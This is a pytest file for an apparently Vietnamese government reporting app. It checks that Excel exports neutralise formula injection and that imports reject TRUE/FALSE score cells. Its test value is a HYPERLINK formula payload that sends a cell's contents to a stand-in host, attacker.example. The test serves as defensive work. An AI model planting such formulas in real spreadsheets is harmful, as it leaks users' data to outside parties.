"""Issue 8 item 6: every export writes text that starts like a formula (=, +, -, @, tab, CR) as text, through the
one writer path (`lib.reports.excel.save_workbook` / `official_workbook`); a TRUE/FALSE cell in a score column
of an import is a cell error, not a crash.

A name such as =HYPERLINK("http://…","Bấm vào đây") typed into the product must come back from every export as
the same text, in a text cell with Excel's quote prefix — never as a live formula.
"""
from __future__ import annotations

import io
import re
import zipfile
from datetime import datetime, timezone
from pathlib import Path

import pytest
import sqlalchemy as sa
from openpyxl import load_workbook

from lib.core import vi
from lib.core.audit import record_event
from lib.core.db import session_scope
from lib.core.enums import AuditAction
from lib.par.enums import ParUnitGroup
from lib.core.models import Unit
from lib.core.excel import FORMULA_PREFIXES, Column, official_workbook, save_workbook
from lib.core.services import audit_log
from lib.par import catalogue as par_catalogue, results as par_results, rounds as par_rounds
from lib.tasks import excel_import as task_import, reports as task_reports
from lib.core.services.audit_log import AuditFilter
from lib.par.catalogue import C_MAX, C_STEP, ImportRefused, check_score, to_decimal
from lib.tasks.reports import Table
from tests.unit.par_helpers import ADMIN, YEAR, act, load_tree, make_round, snapshot

NAME = '=HYPERLINK("http://attacker.example/?leak="&A1,"Bấm vào đây")'
DEPT = ParUnitGroup.DEPARTMENT


def text_cell(data: bytes, value: str, quoted: bool | None = None):  # noqa: ANN201
    """The cell of the workbook holding `value`, after checking no sheet of it holds any formula."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name), name
    wb = load_workbook(io.BytesIO(data))
    found = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value == value]
    assert found, f"{value!r} not in the export"
    for cell in found:
        assert cell.data_type == "s", cell.coordinate
        assert cell.quotePrefix == (value.startswith(FORMULA_PREFIXES) if quoted is None else quoted), cell.coordinate
    return found[0]


def rename_unit(engine, code: str, name: str) -> int:  # noqa: ANN001
    with session_scope(engine) as s:
        unit = s.scalars(sa.select(Unit).where(Unit.code == code)).one()
        unit.name = name
        return unit.id


# =========================================================================== the shared writer

@pytest.mark.parametrize("prefix", FORMULA_PREFIXES)
def test_save_workbook_writes_formula_like_text_as_quoted_text(prefix):
    from openpyxl import Workbook

    wb = Workbook()
    value = f"{prefix}1+1"
    wb.active.append(["Sở Xây dựng", value, 5])
    data = save_workbook(wb)
    read_back = value.replace("\r", "\n")  # XML reads a bare CR as a line feed
    assert text_cell(data, read_back, quoted=True).value == read_back
    ws = load_workbook(io.BytesIO(data)).active
    assert ws["A1"].quotePrefix is False and ws["C1"].value == 5   # ordinary cells untouched


def test_official_workbook_quotes_formula_like_cells_in_data_heading_and_notes():
    data = official_workbook(issuer_parent="UBND TỈNH", issuer=NAME, title="Danh sách", period=NAME,
                             columns=[Column("Tên"), Column("Số", kind="int")], rows=[[NAME, 3], ["-5", 4]],
                             extracted_at=datetime(2026, 3, 2, 8, 0, tzinfo=timezone.utc), notes=[NAME])
    text_cell(data, NAME.upper())             # the issuer line is upper-case
    text_cell(data, f"Kỳ báo cáo: {NAME}")    # starts with K: text without the quote prefix
    assert text_cell(data, "-5").value == "-5"
    cells = [c for row in load_workbook(io.BytesIO(data)).active.iter_rows() for c in row if c.value == NAME]
    assert len(cells) == 2 and all(c.data_type == "s" and c.quotePrefix for c in cells)  # data cell and note


def test_only_the_shared_writer_saves_workbooks():
    root = Path(__file__).resolve().parents[3] / "lib"
    savers = sorted(str(p.relative_to(root)) for p in root.rglob("*.py")
                    if re.search(r"\bwb\.save\(|\bworkbook\.save\(", p.read_text(encoding="utf-8")))
    assert savers == ["core/excel.py"]


# =========================================================================== each export

def test_task_report_export(demo_db, actors):
    table = Table([Column("Đơn vị chủ trì", 40), Column("Tổng số", 10, "int")], [[NAME, 2]])
    with session_scope(demo_db) as s:
        data = task_reports.to_excel(s, actors["lanhdao"], table, title="Tổng hợp theo đơn vị", period=None)
    assert text_cell(data, NAME).value == NAME


def test_task_import_template(demo_db):
    rename_unit(demo_db, "SXD", NAME)
    with session_scope(demo_db) as s:
        data = task_import.template_bytes(s)
    cell = text_cell(data, NAME)
    assert cell.parent.title == task_import.SHEET_GUIDE


def test_par_catalogue_export_round_trips(demo_db, actors):
    load_tree(demo_db, 2030)
    with session_scope(demo_db) as s:
        node = next(n for n in par_catalogue.tree(s, 2030, DEPT) if n.code == "2.1")
        node.name = NAME
        data = par_catalogue.export_excel(s, 2030, DEPT)
    text_cell(data, NAME)
    act(demo_db, par_catalogue.import_excel, actors[ADMIN], 2032, DEPT, data)
    assert dict((r[0], r[2]) for r in snapshot(demo_db, 2032))["2.1"] == NAME


def test_par_component_template_round_trips(demo_db, actors):
    sxd = rename_unit(demo_db, "SXD", NAME)
    load_tree(demo_db)
    round_id = make_round(demo_db, actors, [sxd])
    component_id = act(demo_db, par_rounds.add_component, actors[ADMIN], round_id, "Điều tra xã hội học", "10")
    with session_scope(demo_db) as s:
        data = par_rounds.component_template(s, component_id)
    text_cell(data, NAME)
    ws = load_workbook(io.BytesIO(data)).worksheets[0]
    ws["C2"] = 7
    buffer = io.BytesIO()
    ws.parent.save(buffer)
    assert act(demo_db, par_rounds.import_component_scores, actors[ADMIN], component_id, buffer.getvalue()) == 1


def test_par_results_export(demo_db, actors):
    sxd = rename_unit(demo_db, "SXD", NAME)
    load_tree(demo_db)
    round_id = make_round(demo_db, actors, [sxd])
    with session_scope(demo_db) as s:
        data = par_results.to_excel(s, actors[ADMIN], round_id)
    assert text_cell(data, NAME).value == NAME


def test_audit_log_export(demo_db, actors):
    with session_scope(demo_db) as s:
        record_event(s, AuditAction.EXPORT, entity="tasks", summary=NAME, actor_id=actors["quantri"].id,
                     actor_name="@Quản trị")
    with session_scope(demo_db) as s:
        data = audit_log.export_excel(s, actors["quantri"], AuditFilter())
    text_cell(data, NAME)
    text_cell(data, "@Quản trị")


# =========================================================================== TRUE/FALSE cells in imports

def test_a_true_false_cell_is_not_a_number():
    with pytest.raises(ValueError):
        to_decimal(True)
    with pytest.raises(ValueError):
        to_decimal(False)


def test_a_true_false_component_score_is_a_cell_error(demo_db, actors, unit_ids):
    load_tree(demo_db)
    round_id = make_round(demo_db, actors, [unit_ids["SXD"], unit_ids["STC"]])
    component_id = act(demo_db, par_rounds.add_component, actors[ADMIN], round_id, "Điều tra xã hội học", "10")
    with session_scope(demo_db) as s:
        wb = load_workbook(io.BytesIO(par_rounds.component_template(s, component_id)))
    ws = wb.worksheets[0]
    rows = {ws.cell(row=r, column=1).value: r for r in range(2, ws.max_row + 1)}
    ws.cell(row=rows["SXD"], column=3, value=True)
    ws.cell(row=rows["STC"], column=3, value=4)
    buffer = io.BytesIO()
    wb.save(buffer)
    with pytest.raises(ImportRefused) as refused:
        act(demo_db, par_rounds.import_component_scores, actors[ADMIN], component_id, buffer.getvalue())
    assert [(e.row, e.column, e.message) for e in refused.value.errors] == [
        (rows["SXD"], "Điểm", vi.XL_BOOLEAN_CELL)]
    with session_scope(demo_db) as s:
        assert par_rounds.component_scores(s, component_id) == {}


@pytest.mark.parametrize("column", [C_MAX, C_STEP])
def test_a_true_false_maximum_or_step_in_the_catalogue_is_a_cell_error(demo_db, actors, column):
    load_tree(demo_db, 2030)
    with session_scope(demo_db) as s:
        wb = load_workbook(io.BytesIO(par_catalogue.export_excel(s, 2030, DEPT)))
    ws = wb.active
    headers = [c.value for c in ws[1]]
    row = next(r for r in ws.iter_rows(min_row=2) if r[0].value == "2.1")
    row[headers.index(column)].value = False
    buffer = io.BytesIO()
    wb.save(buffer)
    with pytest.raises(ImportRefused) as refused:
        act(demo_db, par_catalogue.import_excel, actors[ADMIN], 2032, DEPT, buffer.getvalue())
    assert (row[0].row, column, vi.XL_BOOLEAN_CELL) in [(e.row, e.column, e.message) for e in refused.value.errors]
    assert snapshot(demo_db, 2032) == []


def test_a_true_false_self_assessment_score_is_refused_in_vietnamese(demo_db):
    load_tree(demo_db)
    with session_scope(demo_db) as s:
        leaf = next(n for n in par_catalogue.tree(s, YEAR, DEPT) if n.code == "1.2")
        with pytest.raises(par_catalogue.ValidationError):
            check_score(leaf, True)


def test_a_true_false_number_of_working_days_in_the_task_import_is_a_cell_error(demo_db, actors):
    from tests.unit.tasks.test_task_import import _fill, _import, _row, _template

    data = _fill(_template(demo_db), [_row(Thời_hạn="", Số_ngày_làm_việc=True)])
    result = _import(demo_db, actors["chuyenvien.vp"], data)
    assert [(e.row, e.column, e.message) for e in result.errors] == [
        (2, task_import.C_DAYS, vi.XL_BOOLEAN_CELL)]
